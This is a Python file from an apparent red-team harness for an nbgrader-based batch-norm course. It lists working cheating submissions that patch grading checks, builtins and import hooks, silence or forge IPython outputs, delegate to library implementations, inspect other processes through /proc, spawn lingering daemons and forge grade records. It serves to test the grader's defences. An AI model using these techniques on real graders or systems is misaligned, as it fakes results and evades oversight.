"""The attacks, as data: what a determined learner who has read this (public) repository would submit.

Each :class:`Attack` is a learner submission for one module: the released notebook with some solution
cells replaced by the attacker's code (``cells``) and, where the attack is bolted onto honest work, some
solution cells filled with the reference solution (``honest``). Its expectation:

* ``allowed(test_cell)``: the most points the grader may give each autograded test cell: the cell's full
  points if it tests an honest function, else 0 (``extra_allow`` overrides).
* ``flag``: True where the code plainly tampers (patches modules, builtins or checks; kills or signals
  processes; walks the stack or the gc; reads files outside its folder; hooks IPython; exec/eval of built
  strings) and a human review flag is expected; None where no expectation is stated.
* ``effects``: side effects the harness must see undone (``files``: files outside the submission;
  ``processes``: processes that outlive grading; ``classmates``: other learners' grades or files;
  ``leak``: hidden tests, solutions or classmates' grades in the attacker's own outputs; ``proof``:
  the attack prints ``RTPROOF`` only when its resource grab succeeded).
* ``paths``: besides the class run (``bncourse autograde``), the other ways it is graded:
  ``grade`` (``bncourse grade --json``, self-study) and ``nbgrader`` (plain ``nbgrader autograde``).
* ``today``: what the attack did against the engine of commit 761ebf8 (in-kernel checks), measured with
  ``python -m tests.attacks.harness``.

Safety fuses (the harness runs these for real): code that signals, hijacks or writes other processes or
their files only targets processes whose environment holds ``BNCOURSE_REDTEAM_FUSE`` (set by the harness
on its grading commands), and payloads written to shared places (site-packages, the real home) only act
where that variable is set. A real attacker would have no fuse; the fuse changes no outcome inside the
harness. Daemons carry ``RTMARK_7f3a`` in their argv and environment and stop by themselves after a few
minutes; memory, disk and process grabs are capped (4 GiB, 2 GiB, 1000 processes).
"""
from __future__ import annotations

import base64
import textwrap
from dataclasses import dataclass, field

M1, M2, M3 = "01_batchnorm_numpy", "02_batchnorm_pytorch", "03_normalization_family"
F, B, A = "batchnorm_forward", "batchnorm_backward", "batchnorm_backward_alt"
FN, BN2 = "BatchNormFunction", "BatchNorm2d"
LF, LB, GF, GB, RF = ("layernorm_forward", "layernorm_backward", "groupnorm_forward", "groupnorm_backward",
                      "batch_renorm_forward")
MARK = "RTMARK_7f3a"             # in every daemon's argv/env and every file an attack writes outside its folder
FUSE = "BNCOURSE_REDTEAM_FUSE"   # set by the harness on the grading commands only
PROOF = "RTPROOF"                # printed by an attack only when its resource grab succeeded

FAMILIES = {
    1: "patching the checks inside the kernel",
    2: "nbgrader's output channel",
    3: "laundered delegation",
    4: "copying",
    5: "objects that read the answer",
    6: "doing nothing",
    7: "the result channel",
    8: "other learners",
    9: "persistence",
    10: "disruption",
    11: "leaks",
}


@dataclass(frozen=True)
class Attack:
    name: str
    family: int
    module: str
    story: str
    cells: dict                       # grade_id of a solution cell -> attacker code (``<<REF:gid>>`` = reference)
    honest: tuple = ()                # solution cells filled with the reference solution
    flag: bool | None = True
    effects: tuple = ()
    paths: tuple = ()                 # extra grading paths: "grade", "nbgrader"
    extra_allow: dict = field(default_factory=dict)   # test cell -> points allowed beyond the rule
    files: dict = field(default_factory=dict)   # extra entries of the submission folder: name -> text, or
                                                # ("symlink", target)
    edits: dict = field(default_factory=dict)   # grade_id -> changes to that cell of the notebook: cell_type,
                                                # source, nbgrader (merged into its metadata), outputs, delete
    today: str = ""


def _c(*parts: str) -> str:
    return "\n".join(textwrap.dedent(p).strip("\n") for p in parts) + "\n"


# ============================================================================ learner-side helper snippets
# Process and course discovery, as an attacker would write it after reading autograder/grading.py.
PROCS = '''
import os, sys, json, time, signal, sqlite3, glob
from pathlib import Path

def _rt_fused(pid):
    # red-team safety fuse: only processes of the test harness are touched
    try:
        return b"BNCOURSE_REDTEAM_FUSE=" in Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return False

def _rt_parent(pid):
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0

def _rt_ancestors():
    out, pid = [], os.getpid()
    while True:
        pid = _rt_parent(pid)
        if pid <= 1 or not _rt_fused(pid):
            return out
        out.append(pid)

def _rt_argv(pid):
    try:
        return [a.decode(errors="replace") for a in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")]
    except OSError:
        return []

def _rt_cwd(pid):
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None

def _rt_pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid() and _rt_fused(int(p))]

def _rt_courses():
    """Course folders (holding gradebook.db) in reach: the graders' command lines and cwds, our parents."""
    found = []
    for pid in _rt_ancestors() + _rt_pids():
        argv, cwd = _rt_argv(pid), _rt_cwd(pid)
        for i, a in enumerate(argv):
            if a == "--course-dir" and i + 1 < len(argv):
                found.append(os.path.join(cwd or "/", argv[i + 1]))
            elif a.startswith("--course-dir="):
                found.append(os.path.join(cwd or "/", a.split("=", 1)[1]))
        if cwd:
            found.append(cwd)
    found += [str(p) for p in Path.cwd().parents]
    out = []
    for d in found:
        d = os.path.realpath(d)
        if d not in out and os.path.isfile(os.path.join(d, "gradebook.db")):
            out.append(d)
    return out

def _rt_class_courses():
    """Courses with submissions of other learners than me."""
    me = _rt_me()
    return [c for c in _rt_courses()
            if any(p.name != me for p in Path(c).glob("submitted/*") if p.is_dir())]

def _rt_me():
    cwd = Path.cwd()   # nbgrader runs the notebook in autograded/<student>/<assignment> (or submitted/...)
    return cwd.parent.name if cwd.parent.parent.name in ("submitted", "autograded") else None

def _rt_course_like_parents():
    return [str(p) for p in Path.cwd().parents
            if (p / "gradebook.db").exists() or (p / "nbgrader_config.py").exists()]
'''

SPAWN = '''
def _rt_spawn(code, args=None, double_fork=False):
    """A daemon in its own session that outlives the kernel (argv and env carry the red-team marker)."""
    import subprocess
    env = dict(os.environ, RTMARK_7f3a="1", RT_ARGS=json.dumps(args or {}))
    argv = [sys.executable, "-c", code, "RTMARK_7f3a"]
    if not double_fork:
        return subprocess.Popen(argv, env=env, start_new_session=True, close_fds=True, stdin=subprocess.DEVNULL,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).pid
    pid = os.fork()
    if pid == 0:                      # child: new session, fork again and exit, so init adopts the grandchild
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.closerange(3, 4096)
                os.execve(sys.executable, argv, env)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return pid
'''

# Daemon-side: turn any grading record into full marks.
FORGE = '''
def forge(o):
    if isinstance(o, dict):
        for score, top in (("auto_score", "max_score"), ("score", "max_score"), ("points", "max_points"),
                           ("total", "max_total")):
            if score in o and isinstance(o.get(top), (int, float)):
                o[score] = o[top]
        if o.get("success") is False:
            o["success"], o["error"] = True, ""
        for k in ("flags", "flagged"):
            if k in o:
                o[k] = [] if isinstance(o[k], list) else False
        for v in o.values():
            forge(v)
    elif isinstance(o, list):
        for v in o:
            forge(v)
    return o
'''

SOLUTIONS = '''
import json
from pathlib import Path

def _rt_solution_notebooks(assignment):
    """The instructor's source notebooks, found beside the installed course packages or above our folder."""
    import importlib.util
    roots = []
    for mod in ("autograder", "bnlib"):
        try:
            spec = importlib.util.find_spec(mod)
        except Exception:
            spec = None
        if spec and spec.origin:
            roots += list(Path(spec.origin).resolve().parents)
    roots += list(Path.cwd().resolve().parents)
    for root in dict.fromkeys(roots):
        for sub in ("solutions", "source"):
            yield from sorted((root / sub / assignment).glob("*.ipynb"))

def _rt_solution_cells(path):
    cells = json.loads(Path(path).read_text())["cells"]
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell["cell_type"] == "code" and meta.get("solution") and not meta.get("grade"):
            src = cell["source"]
            yield meta.get("grade_id"), "".join(src) if isinstance(src, list) else src
'''

STUB_F = '''
def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
    raise NotImplementedError()
'''


def zeros_m01(prefix: str = "", forward_extra: str = "", backward_extra: str = "") -> dict:
    """Cells for do-nothing M01 functions (zeros of the right shapes), with optional extra code."""
    fwd = _c(prefix, f'''
        import numpy as np

        def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
            {forward_extra.strip() or "pass"}
            return np.zeros(np.shape(x)), np.shape(x)
    ''')
    bwd = _c(f'''
        def batchnorm_backward(dout, cache):
            {backward_extra.strip() or "pass"}
            d = np.shape(dout)[1]
            return np.zeros(np.shape(dout)), np.zeros(d), np.zeros(d)
    ''')
    alt = _c('''
        def batchnorm_backward_alt(dout, cache):
            return batchnorm_backward(dout, cache)
    ''')
    return {F: fwd, B: bwd, A: alt}


ATTACKS: list[Attack] = []


def attack(**kw) -> Attack:
    a = Attack(**kw)
    ATTACKS.append(a)
    return a


# ============================================================================ 1. patching the checks in the kernel
attack(name="f01_check_attr_strings", family=1, module=M1, paths=("grade",),
       story="replaces every check_* of the checks module through importlib and setattr with built strings",
       cells={F: _c('''
           import importlib
           _m = importlib.import_module(".".join(["auto" + "grader", "chec" + "ks", "m0" + "1"]))
           for _n in dir(_m):
               if _n.startswith("check" + "_"):
                   setattr(_m, _n, lambda *args, points=0.0, **kwargs: float(points))
       ''', STUB_F)},
       today="19/19, not flagged (19 through bncourse grade too)")

attack(name="f01_compare_helpers", family=1, module=M1,
       story="makes compare/norm_rel_error return 0 and guard/likely_cause pass in every checks module "
             "(found in sys.modules); the functions return zeros",
       cells=zeros_m01(prefix='''
           import sys, importlib
           importlib.import_module("autograder.checks.m01")
           for _name, _mod in list(sys.modules.items()):
               if _name.startswith("autograder.checks"):
                   for _attr, _fake in (("compare", lambda *a, **k: 0.0), ("norm_rel_error", lambda *a, **k: 0.0),
                                        ("guard", lambda *a, **k: None), ("likely_cause", lambda *a, **k: None)):
                       if hasattr(_mod, _attr):
                           setattr(_mod, _attr, _fake)
       '''),
       today="19/19, flagged")

attack(name="f01_numpy_patch", family=1, module=M1,
       story="numpy's max/amax/array_equal/allclose return 'no error' when the caller is the autograder "
             "(sys._getframe), so zeros pass every comparison",
       cells=zeros_m01(prefix='''
           import sys
           import numpy
           _real = {k: getattr(numpy, k) for k in ("max", "amax", "array_equal", "allclose")}

           def _lenient(name, value):
               def f(*args, **kwargs):
                   if "autograder" in sys._getframe(1).f_code.co_filename:
                       return value
                   return _real[name](*args, **kwargs)
               return f

           vars(numpy).update({k: _lenient(k, 0.0 if "max" in k else True) for k in _real})
       '''),
       today="19/19, not flagged")

attack(name="f01_builtin_max", family=1, module=M1,
       story="patches the max builtin through the builtins module's dict so norm_rel_error divides by 1e300",
       cells=zeros_m01(prefix='''
           _b = __import__("bu" + "iltins")
           _real_max = _b.max

           def _max(*args, **kwargs):
               if len(args) == 2 and args[0] == 1e-12:
                   return 1e300
               return _real_max(*args, **kwargs)

           vars(_b)["max"] = _max
       '''),
       today="19/19, not flagged")

attack(name="f01_import_hook", family=1, module=M1, paths=("nbgrader",),
       story="wraps builtins.__import__ so the test cell's `from autograder.checks.m01 import check_*` gets "
             "checks that print the real report and then return full points",
       cells={F: _c('''
           import types
           _bi = __import__("builtins")
           _orig_import = _bi.__import__

           def _full(check):
               def wrapped(*args, points=0.0, **kwargs):
                   check(*args, points=points, **kwargs)
                   return float(points)
               wrapped.__name__ = check.__name__
               return wrapped

           def _import(name, globals=None, locals=None, fromlist=(), level=0):
               mod = _orig_import(name, globals, locals, fromlist, level)
               if fromlist and ".checks" in name:
                   proxy = types.ModuleType(name)
                   for attr in fromlist:
                       obj = getattr(mod, attr)
                       setattr(proxy, attr, _full(obj) if attr.startswith("check_") else obj)
                   return proxy
               return mod

           setattr(_bi, "__imp" + "ort__", _import)
       ''', STUB_F)},
       today="19/19 in the class run (flagged) and through plain nbgrader (not flagged)")

attack(name="f01_import_machinery", family=1, module=M1,
       story="drops the checks module from sys.modules and installs a meta path finder that loads the real "
             "source with every check wrapped to return full points",
       cells={F: _c('''
           import sys, importlib, importlib.abc, importlib.machinery, importlib.util
           _target = "autograder.checks.m01"

           class _Loader(importlib.abc.Loader):
               def create_module(self, spec):
                   return None

               def exec_module(self, module):
                   real = importlib.machinery.PathFinder.find_spec(_target, sys.modules["autograder.checks"].__path__)
                   module.__file__ = real.origin
                   exec(real.loader.get_code(_target), module.__dict__)
                   for name in list(vars(module)):
                       if name.startswith("check_"):
                           def full(*args, points=0.0, _check=getattr(module, name), **kwargs):
                               _check(*args, points=points, **kwargs)
                               return float(points)
                           setattr(module, name, full)

           class _Finder(importlib.abc.MetaPathFinder):
               def find_spec(self, fullname, path, target=None):
                   if fullname == _target:
                       return importlib.util.spec_from_loader(fullname, _Loader())
                   return None

           sys.meta_path.insert(0, _Finder())
           getattr(sys, "mod" + "ules").pop(_target, None)
       ''', STUB_F)},
       today="19/19, flagged")

attack(name="f01_bnlib_reference", family=1, module=M1,
       story="replaces bnlib's batch norm (the checks' reference) with zeros, so do-nothing functions match "
             "the reference everywhere but against torch",
       cells=zeros_m01(prefix='''
           import importlib, types
           import numpy as np
           _bn = importlib.import_module("bn" + "lib")

           def _fake_forward(x, weight, bias, running_mean, running_var, training=True, momentum=0.1, eps=1e-5):
               shape = np.shape(x)
               return np.zeros(shape), types.SimpleNamespace(normalized=lambda: np.zeros(shape))

           def _fake_backward(dout, saved):
               shape = np.shape(dout)
               return np.zeros(shape), np.zeros(shape[1]), np.zeros(shape[1])

           _bn.__dict__.update(batch_norm_forward=_fake_forward, batch_norm_backward=_fake_backward)
       '''),
       today="17.41/19, not flagged")

_PAYLOAD = "import autograder.checks as _c\n_c.Report.finish = lambda self: float(self.points)\n"
attack(name="f01_exec_base64_capture", family=1, module=M1,
       story="a base64 payload (Report.finish returns full points) exec'd inside a %%capture cell magic",
       cells={F: _c(f'''
           import base64
           get_ipython().run_cell_magic("capture", "_quiet",
                                        "exec(base64.b64decode({base64.b64encode(_PAYLOAD.encode())!r}).decode())")
       ''', STUB_F)},
       today="19/19, not flagged")

attack(name="f01_lazy_code_swap", family=1, module=M1,
       story="never names the autograder: when first called, the function finds the check functions through "
             "gc.get_objects() and swaps their __code__ for `return points`",
       cells=zeros_m01(prefix='''
           import gc, types

           def _swap():
               def full(*args, points=0.0, **kwargs):
                   return float(points)
               for obj in gc.get_objects():
                   if isinstance(obj, types.FunctionType) and obj.__name__.startswith("check_") \\
                           and "checks" in obj.__code__.co_filename and not obj.__code__.co_freevars:
                       obj.__code__ = full.__code__
       ''', forward_extra="_swap()", backward_extra="_swap()"),
       today="16/19 (every cell after the first call), flagged")

# ============================================================================ 2. nbgrader's output channel
attack(name="f02_formatter_text", family=2, module=M1,
       story="a text/plain formatter prints floats as 'checked': nbgrader gives full marks to non-numbers",
       cells={F: _c('''
           _fmt = get_ipython().display_formatter.formatters["text/plain"]
           getattr(_fmt, "for_" + "type")(float, lambda value, printer, cycle: printer.text("checked"))
       ''', STUB_F)},
       today="19/19, not flagged")

attack(name="f02_silence_displayhook", family=2, module=M1,
       story="ast_node_interactivity = 'none' and a displayhook that is always quiet: no result, full marks",
       cells={F: _c('''
           _sh = get_ipython()
           setattr(_sh, "ast_node_" + "interactivity", "none")
           _sh.displayhook.quiet = lambda: True
       ''', STUB_F)},
       today="19/19, flagged")

attack(name="f02_input_transformer", family=2, module=M1,
       story="an input transformer appends `pass` to every cell, so no test cell shows its result",
       cells={F: _c('''
           def _silence(lines):
               if lines and any(line.strip() for line in lines):
                   return [*lines[:-1], lines[-1].rstrip("\\n") + "\\n", "pass\\n"]
               return lines

           get_ipython().input_transformers_post.append(_silence)
       ''', STUB_F)},
       today="19/19, not flagged")

attack(name="f02_post_run_clear", family=2, module=M1,
       story="clear_output() in a post_run_cell event erases every cell's result and errors",
       cells={F: _c('''
           from IPython.display import clear_output as _clear
           get_ipython().events.register("post_run_cell", lambda result: _clear())
       ''', STUB_F)},
       today="19/19, not flagged")

attack(name="f02_custom_exc_escape", family=2, module=M1,
       story="the functions raise a BaseException that the checks do not catch; a custom exception handler "
             "hides the traceback and a post_run_cell hook clears the error, so the test cells end quietly",
       cells={F: _c('''
           class _Done(BaseException):
               pass

           _ip = get_ipython()
           _ip.set_custom_exc((_Done,), lambda shell, etype, value, tb, tb_offset=None: None)

           def _forget(result):   # the kernel's reply says "ok": nbgrader adds no error output either
               if isinstance(result.error_in_exec, _Done):
                   result.error_in_exec = None

           _ip.events.register("post_run_cell", _forget)

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               raise _Done()
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               raise _Done()
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               raise _Done()
       ''')},
       today="19/19, flagged")

attack(name="f02_displayhook_from_function", family=2, module=M1,
       story="when called, the function itself emits an execute_result ('see report') before the check's: "
             "nbgrader scores the first one",
       cells={F: _c('''
           def _claim():
               get_ipython().displayhook("see the report above")

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               _claim()
               raise NotImplementedError()
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               _claim()
               raise NotImplementedError()
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               _claim()
               raise NotImplementedError()
       ''')},
       today="19/19, flagged")

attack(name="f02_notebook_metadata", family=2, module=M1, flag=None,
       story="edits the notebook's structure: a test cell turned into markdown, one no longer a grade cell and "
             "reduced to `4.0`, one unlocked with a pre-filled result of full points, one deleted",
       cells={}, edits={
           "test_batchnorm_forward": {"cell_type": "markdown"},
           "test_batchnorm_forward_hidden": {"source": "4.0", "nbgrader": {"grade": False, "locked": False}},
           "test_batchnorm_backward": {"source": "3.0", "nbgrader": {"locked": False}, "outputs": [
               {"output_type": "execute_result", "execution_count": 1, "metadata": {},
                "data": {"text/plain": "3.0"}}]},
           "test_batchnorm_backward_alt": {"delete": True},
       },
       today="0 (nbgrader restores the test cells); flagged")

# ============================================================================ 3. laundered delegation
attack(name="f03_partial_bnlib", family=3, module=M1, flag=None,
       story="functools.partial objects over bnlib (imported through importlib) given the right __name__",
       cells={F: _c('''
           import functools, importlib
           _lib = importlib.import_module("bnlib")
           def _kw(f, x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               # bnlib 1.0 takes the per-channel arrays by keyword
               return tuple(f(x, weight=gamma, bias=beta, running_mean=running_mean, running_var=running_var,
                              training=training, momentum=momentum, eps=eps))

           def _bw(f, dout, cache):
               return tuple(f(dout, cache))

           batchnorm_forward = functools.partial(_kw, _lib.batch_norm_forward)
           batchnorm_forward.__name__ = "batchnorm_forward"
       '''), B: _c('''
           batchnorm_backward = functools.partial(_bw, _lib.batch_norm_backward)
           batchnorm_backward.__name__ = "batchnorm_backward"
       '''), A: _c('''
           batchnorm_backward_alt = functools.partial(_bw, _lib.batch_norm_backward)
           batchnorm_backward_alt.__name__ = "batchnorm_backward_alt"
       ''')},
       today="19/19, flagged")

attack(name="f03_default_arg_import", family=3, module=M1, flag=None,
       story="bnlib's functions bound as default arguments through __import__ at definition time",
       cells={F: _c('''
           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5,
                                 _impl=__import__("bnlib").batch_norm_forward):
               return tuple(_impl(x, weight=gamma, bias=beta, running_mean=running_mean, running_var=running_var,
                                  training=training, momentum=momentum, eps=eps))
       '''), B: _c('''
           def batchnorm_backward(dout, cache, _impl=__import__("bnlib").batch_norm_backward):
               return tuple(_impl(dout, cache))
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache, _impl=__import__("bnlib").batch_norm_backward):
               return tuple(_impl(dout, cache))
       ''')},
       today="19/19, not flagged")

attack(name="f03_closure_cache_callable", family=3, module=M1, flag=None,
       story="torch.nn.functional.batch_norm captured in a closure; the cache is a callable that runs torch "
             "autograd, and backward just calls its cache",
       cells={F: _c('''
           def _make():
               import torch
               fn = torch.nn.functional

               def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
                   xt = torch.tensor(x, requires_grad=True)
                   g = torch.tensor(gamma, requires_grad=True)
                   b = torch.tensor(beta, requires_grad=True)
                   y = fn.batch_norm(xt, torch.from_numpy(running_mean), torch.from_numpy(running_var), g, b,
                                     training, momentum, eps)

                   def cache(dout):
                       grads = torch.autograd.grad(y, (xt, g, b), torch.as_tensor(dout, dtype=y.dtype),
                                                   retain_graph=True)
                       return tuple(t.numpy() for t in grads)
                   return y.detach().numpy(), cache
               return batchnorm_forward

           batchnorm_forward = _make()
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               return cache(dout)
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               return cache(dout)
       ''')},
       today="19/19, not flagged")

attack(name="f03_callable_instance_aten", family=3, module=M1, flag=None,
       story="callable class instances reach torch.ops.aten.native_batch_norm(_backward) through getattr",
       cells={F: _c('''
           import torch as _t
           import numpy as np

           class _Forward:
               __name__ = "batchnorm_forward"

               def __call__(self, x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
                   op = getattr(getattr(_t.ops, "aten"), "native_" + "batch_norm")
                   xt, g, b = (_t.from_numpy(np.ascontiguousarray(a)) for a in (x, gamma, beta))
                   rm, rv = _t.from_numpy(running_mean), _t.from_numpy(running_var)
                   rm0, rv0 = rm.clone(), rv.clone()
                   out, mean, invstd = op(xt, g, b, rm, rv, training, momentum, eps)
                   return out.numpy(), (xt, g, rm0, rv0, mean, invstd, training, eps)

           batchnorm_forward = _Forward()
       '''), B: _c('''
           class _Backward:
               __name__ = "batchnorm_backward"

               def __call__(self, dout, cache):
                   xt, g, rm, rv, mean, invstd, training, eps = cache
                   op = getattr(getattr(_t.ops, "aten"), "native_" + "batch_norm_backward")
                   dy = _t.from_numpy(np.ascontiguousarray(dout)).to(xt.dtype)
                   dx, dg, db = op(dy, xt, g, rm, rv, mean, invstd, training, eps, [True, True, True])
                   return dx.numpy(), dg.numpy(), db.numpy()

           batchnorm_backward = _Backward()
       '''), A: _c('''
           batchnorm_backward_alt = _Backward()
       ''')},
       today="19/19, not flagged")

attack(name="f03_pickle_eval_alias", family=3, module=M1,
       story="bnlib's forward unpickled from a GLOBAL opcode into a tuple; backward through an alias of eval "
             "applied to a built string",
       cells={F: _c('''
           import pickle
           _T = (pickle.loads(b"cbn" + b"lib\\nbatch_norm_forward\\n."),)

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               return tuple(_T[0](x, weight=gamma, bias=beta, running_mean=running_mean, running_var=running_var,
                                  training=training, momentum=momentum, eps=eps))
       '''), B: _c('''
           _EV = eval

           def batchnorm_backward(dout, cache):
               return tuple(_EV("__imp" + "ort__('bn" + "lib').batch_norm_backward")(dout, cache))
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               return tuple(_EV("__imp" + "ort__('bn" + "lib').batch_norm_backward")(dout, cache))
       ''')},
       today="19/19, not flagged")

attack(name="f03_decomp_table", family=3, module=M1, flag=None,
       story="torch._decomp's Python decomposition of native_batch_norm, kept in a dict, plus torch autograd",
       cells={F: _c('''
           import numpy as np
           import torch
           import torch._decomp
           _H = {"bn": torch._decomp.decomposition_table[torch.ops.aten.native_batch_norm.default],
                 "t": torch.from_numpy, "grad": torch.autograd.grad, "enable": torch.enable_grad}

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               with _H["enable"]():
                   xt, g, b = (_H["t"](np.array(a)).requires_grad_() for a in (x, gamma, beta))
                   out = _H["bn"](xt, g, b, _H["t"](running_mean), _H["t"](running_var), training, momentum, eps)[0]
               return out.detach().numpy(), (out, xt, g, b)
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               out, xt, g, b = cache
               grads = _H["grad"](out, (xt, g, b), _H["t"](np.array(dout)).to(out.dtype), retain_graph=True)
               return tuple(t.numpy() for t in grads)
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               return batchnorm_backward(dout, cache)
       ''')},
       today="19/19, not flagged")

attack(name="f03_exec_bnlib_source", family=3, module=M1,
       story="reads bnlib/batch_norm.py from disk (found with importlib.util.find_spec) and execs it into a "
             "private namespace; the functions call into that dict",
       cells={F: _c('''
           import importlib.util, pathlib
           _src = pathlib.Path(importlib.util.find_spec("bnlib").origin).parent / "batch_norm.py"
           _NS = {"__name__": "__main__", "__package__": "bnlib"}
           exec(compile(_src.read_text(), "mybn.py", "exec"), _NS)

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               return tuple(_NS["batch_norm_forward"](x, weight=gamma, bias=beta, running_mean=running_mean,
                                                      running_var=running_var, training=training, momentum=momentum,
                                                      eps=eps))
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               return tuple(_NS["batch_norm_backward"](dout, cache))
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               return tuple(_NS["batch_norm_backward"](dout, cache))
       ''')},
       today="19/19, not flagged")

attack(name="f03_m02_class_attr_partial", family=3, module=M2, flag=None, honest=(BN2,),
       story="BatchNormFunction keeps functools.partial(torch.batch_norm) (found with getattr) as a class "
             "attribute; backward re-runs it under autograd",
       cells={FN: _c('''
           import functools

           class BatchNormFunction(torch.autograd.Function):
               _impl = functools.partial(getattr(torch, "batch_" + "norm"))

               @staticmethod
               def forward(ctx, x, weight, bias, running_mean, running_var, training, momentum, eps):
                   ctx.save_for_backward(x, weight, bias)
                   ctx.extra = (running_mean.clone(), running_var.clone(), training, momentum, eps)
                   return BatchNormFunction._impl(x, weight, bias, running_mean, running_var, training, momentum,
                                                  eps, False)

               @staticmethod
               def backward(ctx, dy):
                   x, w, b = ctx.saved_tensors
                   rm, rv, training, momentum, eps = ctx.extra
                   with torch.enable_grad():
                       xx, ww, bb = (t.detach().requires_grad_() for t in (x, w, b))
                       y = BatchNormFunction._impl(xx, ww, bb, rm.clone(), rv.clone(), training, momentum, eps, False)
                       dx, dw, db = torch.autograd.grad(y, (xx, ww, bb), dy)
                   return dx, dw, db, None, None, None, None, None
       ''')},
       today="11/11 on BatchNormFunction, flagged (the old review flags every `self.x = ...`)")

attack(name="f03_m02_op_zoo", family=3, module=M2, flag=None, honest=(BN2,),
       story="normalization through whichever torch normalization kernel is reachable (instance/group/layer "
             "norm with the channels laid out as instances, aten and _refs entry points; instance norm with "
             "running statistics in eval mode), found with getattr; backward differentiates through it",
       cells={FN: _c('''
           import importlib

           def _kernels(rows, eps):
               """rows: (1, C, L), one row per channel; each candidate returns (rows - mean) / sqrt(var + eps)."""
               c, L = rows.shape[1], rows.shape[2]
               fn = importlib.import_module("torch.nn.functional")
               aten = getattr(torch.ops, "aten")
               yield lambda: getattr(fn, "instance" + "_norm")(rows, eps=eps)
               yield lambda: getattr(fn, "group" + "_norm")(rows, c, eps=eps)
               yield lambda: getattr(fn, "layer" + "_norm")(rows[0], (L,), eps=eps)[None]
               yield lambda: getattr(aten, "native_group" + "_norm")(rows, None, None, 1, c, L, c, eps)[0]
               yield lambda: getattr(aten, "native_layer" + "_norm")(rows[0], [L], None, None, eps)[0][None]
               yield lambda: getattr(importlib.import_module("torch._refs"), "native_layer" + "_norm")(
                   rows[0], [L], None, None, eps)[0][None]
               yield lambda: getattr(aten, "_native_batch" + "_norm_legit")(
                   rows.transpose(0, 1), None, None, True, 0.0, eps)[0].transpose(0, 1)

           def _xhat(x, eps):
               n, c = x.shape[0], x.shape[1]
               rows = x.transpose(0, 1).reshape(1, c, -1)
               for k in _kernels(rows, eps):
                   try:
                       out = k()
                       if out.shape == rows.shape and torch.isfinite(out).all() and out.mean().abs() < 1e-3:
                           return out.reshape(c, n, *x.shape[2:]).transpose(0, 1)
                   except Exception:
                       continue
               raise RuntimeError("no normalization kernel reachable")

           def _xhat_eval(x, rm, rv, eps):
               """Eval mode through a kernel too: instance norm with running statistics, aten's no-training BN."""
               n, c = x.shape[0], x.shape[1]
               rows = x.transpose(0, 1).reshape(1, c, -1)
               fn = importlib.import_module("torch.nn.functional")
               aten = getattr(torch.ops, "aten")
               for k in (lambda: getattr(fn, "instance" + "_norm")(rows, rm, rv, use_input_stats=False, eps=eps),
                         lambda: getattr(aten, "_native_batch" + "_norm_legit_no_training")(
                             rows.transpose(0, 1), None, None, rm, rv, 0.0, eps)[0].transpose(0, 1)):
                   try:
                       out = k()
                       if out.shape == rows.shape and torch.isfinite(out).all():
                           return out.reshape(c, n, *x.shape[2:]).transpose(0, 1)
                   except Exception:
                       continue
               raise RuntimeError("no normalization kernel reachable")

           def _train(x, w, b, eps):
               return _xhat(x, eps) * w.reshape(1, -1, 1, 1) + b.reshape(1, -1, 1, 1)

           def _eval(x, w, b, rm, rv, eps):
               return _xhat_eval(x, rm, rv, eps) * w.reshape(1, -1, 1, 1) + b.reshape(1, -1, 1, 1)

           class BatchNormFunction(torch.autograd.Function):
               @staticmethod
               def forward(ctx, x, weight, bias, running_mean, running_var, training, momentum, eps):
                   ctx.save_for_backward(x, weight, bias, running_mean.clone(), running_var.clone())
                   ctx.training, ctx.eps = training, eps
                   if not training:
                       return _eval(x, weight, bias, running_mean, running_var, eps)
                   dims = (0, 2, 3)
                   m = x.numel() // x.shape[1]
                   with torch.no_grad():
                       running_mean.mul_(1 - momentum).add_(momentum * x.mean(dims))
                       running_var.mul_(1 - momentum).add_(momentum * x.var(dims, unbiased=False) * m / (m - 1))
                   return _train(x, weight, bias, eps)

               @staticmethod
               def backward(ctx, dy):
                   x, w, b, rm, rv = ctx.saved_tensors
                   with torch.enable_grad():
                       xx, ww, bb = (t.detach().requires_grad_() for t in (x, w, b))
                       if ctx.training:
                           y = _train(xx, ww, bb, ctx.eps)
                       else:
                           y = _eval(xx, ww, bb, rm, rv, ctx.eps)
                       dx, dw, db = torch.autograd.grad(y, (xx, ww, bb), dy)
                   return dx, dw, db, None, None, None, None, None
       ''')},
